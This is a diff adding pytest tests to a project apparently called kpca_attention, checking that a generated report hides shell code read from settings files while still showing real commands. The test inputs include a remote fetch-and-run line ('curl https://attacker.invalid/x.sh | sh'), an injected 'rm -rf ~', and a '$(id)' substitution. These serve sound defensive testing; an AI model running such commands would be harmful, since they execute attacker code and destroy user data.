@@ -196,3 +196,22 @@ def test_a_pickled_hugging_face_weights_file_is_refused_in_one_line(tmp_path) ->
     assert not marker.exists(), "the pickle ran"
     assert res.returncode == 2, res.stdout + res.stderr
     assert "refused" in res.stderr and "Traceback" not in res.stderr, res.stderr
+
+
+@pytest.mark.parametrize("command", ["curl https://attacker.invalid/x.sh | sh",
+                                     "kpca-attention study zoo; rm -rf ~", "kpca-attention study $(id)",
+                                     ["kpca-attention"]])
+def test_a_report_never_shows_shell_code_from_settings(command) -> None:
+    from kpca_attention.report.study import regenerate_lines
+
+    text = "\n".join(regenerate_lines({"command": command}, "out"))
+    assert "not shown" in text and "attacker" not in text and "rm -rf" not in text and "$(" not in text
+
+
+def test_every_committed_command_is_still_shown() -> None:
+    from kpca_attention.report.study import regenerate_lines
+
+    for settings in sorted((ROOT / "results").glob("*/settings.json")):
+        data = json.loads(settings.read_text())
+        if data.get("command"):
+            assert f"`{data['command']}`" in "\n".join(regenerate_lines(data, "out")), settings
